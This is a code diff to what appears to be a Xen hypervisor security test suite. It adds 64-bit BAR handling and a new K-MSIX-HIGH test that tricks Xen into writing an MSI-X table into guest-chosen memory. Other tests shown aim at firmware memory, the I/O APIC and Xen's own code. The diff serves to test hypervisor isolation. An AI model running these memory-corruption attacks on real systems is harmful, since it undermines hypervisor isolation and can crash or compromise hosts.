@@ -4,7 +4,8 @@
  * own, and registers in configuration space tell where that is. Xen writes there
  * itself, to wherever these registers lead.
  *
- * The device has one interrupt, whose table begins a BAR of its own.
+ * One device has a table that begins a BAR of its own, another a table within
+ * a BAR of 64 bits.
  */
 #include "machine.h"
 
@@ -15,8 +16,6 @@
 #include "registers.h"
 #include "xen_memory.h"
 
-#define DEVICE  WITH_MSIX
-#define BAR     0x14
 #define COMMAND 0x04
 #define MEMORY  2
 
@@ -24,33 +23,54 @@
 #define MSIX_CONTROL 2
 #define MSIX_TABLE   4
 #define MSIX_ENABLE  (1 << 15)
-#define SECOND_BAR   1
 
 #define ENTRY_SIZE 16
 
-/* Have the device decode at @address; 0: not at all. */
-static void place_device(uint64_t address)
-{
-    const uint32_t command = config_read(DEVICE, COMMAND, 2);
+struct device {
+    uint16_t at;
+    unsigned int bar;   /* the register of the BAR with the table */
+    bool wide;          /* it has 64 bits */
+    unsigned int table; /* in the BAR */
+    unsigned int told;  /* both, as the capability has it */
+};
 
-    config_write(DEVICE, COMMAND, 2, command & ~MEMORY);
+static const struct device low = { .at = WITH_MSIX, .bar = 0x14, .told = 1 };
+static const struct device high = { .at = WITH_MSIX_HIGH,
+                                    .bar = 0x10,
+                                    .wide = true,
+                                    .table = 0x3000,
+                                    .told = 0x3000 };
+
+/* Have the device's BAR decode at @address; 0: not at all. */
+static void place_device(const struct device *device, uint64_t address)
+{
+    const uint32_t command = config_read(device->at, COMMAND, 2);
+
+    config_write(device->at, COMMAND, 2, command & ~MEMORY);
     if ( !address )
         return;
-    config_write(DEVICE, BAR, 4, (uint32_t)address);
-    config_write(DEVICE, COMMAND, 2, command | MEMORY);
+    config_write(device->at, device->bar, 4, (uint32_t)address);
+    if ( device->wide )
+        config_write(device->at, device->bar + 4, 4, (uint32_t)(address >> 32));
+    config_write(device->at, COMMAND, 2, command | MEMORY);
 }
 
-static uint64_t device_place(void)
+static uint64_t device_place(const struct device *device)
 {
-    return config_read(DEVICE, BAR, 4) & ~0xfU;
+    const uint64_t bar = config_read(device->at, device->bar, 4) & ~0xfU;
+
+    return device->wide
+               ? bar | (uint64_t)config_read(device->at, device->bar + 4, 4)
+                           << 32
+               : bar;
 }
 
 /* The register of the capability, 0 if the device is not as it should be. */
-static unsigned int find_msix(void)
+static unsigned int find_msix(const struct device *device)
 {
-    const unsigned int msix = find_capability(DEVICE, MSIX);
+    const unsigned int msix = find_capability(device->at, MSIX);
 
-    return msix && config_read(DEVICE, msix + MSIX_TABLE, 4) == SECOND_BAR
+    return msix && config_read(device->at, msix + MSIX_TABLE, 4) == device->told
                ? msix
                : 0;
 }
@@ -59,19 +79,20 @@ static unsigned int find_msix(void)
  * Have Xen set up the device's interrupt, with the device at @address, and take
  * it down again; @meanwhile is asked in between.
  */
-static bool pv_set_up(uint64_t address, bool (*meanwhile)(void))
+static bool pv_set_up(const struct device *device, uint64_t address,
+                      bool (*meanwhile)(void))
 {
     struct physdev_map_pirq map = { .domid = DOMID_SELF,
                                     .type = MAP_PIRQ_TYPE_MSI_SEG,
                                     .index = -1,
                                     .pirq = -1,
-                                    .devfn = DEVICE & 0xff,
+                                    .devfn = device->at & 0xff,
                                     .table_base = address };
     struct physdev_unmap_pirq unmap = { .domid = DOMID_SELF };
     long result;
     bool seen;
 
-    place_device(address);
+    place_device(device, address);
     result = physdev_op(PHYSDEVOP_map_pirq, &map);
     seen = meanwhile();
     unmap.pirq = map.pirq;
@@ -85,15 +106,16 @@ static bool pv_set_up(uint64_t address, bool (*meanwhile)(void))
  * A PVH dom0 writes to the table where the device is, and Xen keeps what it
  * writes for when the interrupts are switched on.
  */
-static bool pvh_set_up(uint64_t address, bool (*meanwhile)(void))
+static bool pvh_set_up(const struct device *device, uint64_t address,
+                       bool (*meanwhile)(void))
 {
-    const unsigned int control = find_msix() + MSIX_CONTROL;
-    const uint32_t before = config_read(DEVICE, control, 2);
+    const unsigned int control = find_msix(device) + MSIX_CONTROL;
+    const uint32_t before = config_read(device->at, control, 2);
     volatile uint32_t *table;
     bool seen;
 
-    place_device(device_place());
-    table = map_machine(device_place() / PAGE_SIZE, 1);
+    place_device(device, device_place(device));
+    table = map_machine(device_place(device) / PAGE_SIZE, 1);
     if ( !table || !can_read(table, 0) )
         return false;
     table[0] = 0xfee00000;
@@ -102,10 +124,10 @@ static bool pvh_set_up(uint64_t address, bool (*meanwhile)(void))
     table[3] = 0;
     unmap_machine(table, 1);
 
-    place_device(address);
-    config_write(DEVICE, control, 2, before | MSIX_ENABLE);
+    place_device(device, address);
+    config_write(device->at, control, 2, before | MSIX_ENABLE);
     seen = meanwhile();
-    config_write(DEVICE, control, 2, before & ~MSIX_ENABLE);
+    config_write(device->at, control, 2, before & ~MSIX_ENABLE);
 
     return seen;
 }
@@ -139,19 +161,20 @@ static volatile uint8_t *see_elsewhere(uint64_t address)
     return NULL;
 }
 
-/* Aim the table at @address, where @target is seen. */
-static enum outcome aim_table(uint64_t address, const char *what)
+/* Aim the BAR at @address, which has the table where @target is seen. */
+static enum outcome aim_table(const struct device *device, uint64_t address,
+                              const char *what)
 {
-    const uint64_t place = device_place();
+    const uint64_t place = device_place(device);
     bool changed;
 
-    if ( !find_msix() || !place )
+    if ( !find_msix(device) || !place )
         return cannot_try("no device with MSI-X");
     memcpy(was, (void *)target, sizeof(was));
-    changed = dom0_is_pv() ? pv_set_up(address, target_changed)
-                           : pvh_set_up(address, target_changed);
-    place_device(0);
-    place_device(place);
+    changed = dom0_is_pv() ? pv_set_up(device, address, target_changed)
+                           : pvh_set_up(device, address, target_changed);
+    place_device(device, 0);
+    place_device(device, place);
     if ( changed )
         memcpy((void *)target, was, sizeof(was));
 
@@ -179,7 +202,7 @@ KERNEL_ATTACK("K-MSIX-TABLE", "have Xen write a table into firmware's memory")
         page = see_elsewhere(address);
     if ( page )
         target = page;
-    outcome = aim_table(address, "the firmware's memory");
+    outcome = aim_table(&low, address, "the firmware's memory");
     if ( page )
         unmap_as_device(page, 1);
 
@@ -192,7 +215,35 @@ KERNEL_PV_ATTACK("K-MSIX-RAM", "have Xen write a table into memory",
 {
     target = buffer(PAGE_SIZE);
 
-    return aim_table(own_frame((void *)target) * PAGE_SIZE, "memory");
+    return aim_table(&low, own_frame((void *)target) * PAGE_SIZE, "memory");
+}
+
+/*
+ * K-MSIX-HIGH: the same by an address that nobody has.
+ *
+ * Of a page table's entry the processor takes the bits up to 51 for an address.
+ * A device may decode at 1 << 52 and above, where there is nothing; Xen maps the
+ * table there, and writes to what has the rest of the address.
+ */
+KERNEL_PV_ATTACK("K-MSIX-HIGH", "have Xen write a table to half an address",
+                 "where its tables are Xen maps nothing to write there")
+{
+    static const uint64_t lost = 1ULL << 52, size = 0x4000;
+    const unsigned int pages = 64;
+    uint8_t *memory = buffer(pages * PAGE_SIZE);
+    uint64_t frame;
+    unsigned int i;
+
+    for ( i = 0; i < pages; i++ )
+    {
+        frame = own_frame(memory + i * PAGE_SIZE) * PAGE_SIZE;
+        if ( frame % size != high.table )
+            continue;
+        target = memory + i * PAGE_SIZE;
+        return aim_table(&high, lost + frame - high.table, "memory");
+    }
+
+    return cannot_try("no page of ours is where the table can be");
 }
 
 /* ---- what Xen lets nobody write ---- */
@@ -204,14 +255,14 @@ KERNEL_PV_ATTACK("K-MSIX-RAM", "have Xen write a table into memory",
  */
 static void protect_and_release(uint64_t address)
 {
-    physdev_pci_device_t device = { .devfn = DEVICE & 0xff };
-    const uint64_t place = device_place();
+    physdev_pci_device_t device = { .devfn = low.at & 0xff };
+    const uint64_t place = device_place(&low);
 
-    place_device(address);
+    place_device(&low, address);
     physdev_op(PHYSDEVOP_prepare_msix, &device);
     physdev_op(PHYSDEVOP_release_msix, &device);
-    place_device(0);
-    place_device(place);
+    place_device(&low, 0);
+    place_device(&low, place);
 }
 
 /* K-MSIX-RO: make the I/O APIC writable. */
@@ -245,7 +296,7 @@ static void write_beside_table(uint64_t where, uint32_t word)
 {
     volatile char *page;
 
-    place_device(where & PAGE_MASK);
+    place_device(&low, where & PAGE_MASK);
     page = map_machine(where / PAGE_SIZE, 1);
     if ( page )
     {
@@ -264,14 +315,14 @@ static void write_beside_table(uint64_t where, uint32_t word)
 KERNEL_PVH_ATTACK("K-VPCI-PAGE", "have Xen write to its code by a table's page",
                   "a PV dom0 maps the page itself")
 {
-    const uint64_t place = device_place();
+    const uint64_t place = device_place(&low);
     enum outcome outcome;
 
-    if ( !find_msix() || !place )
+    if ( !find_msix(&low) || !place )
         return cannot_try("no device with MSI-X");
     outcome = change_version(write_beside_table);
-    place_device(0);
-    place_device(place);
+    place_device(&low, 0);
+    place_device(&low, place);
 
     return outcome;
 }
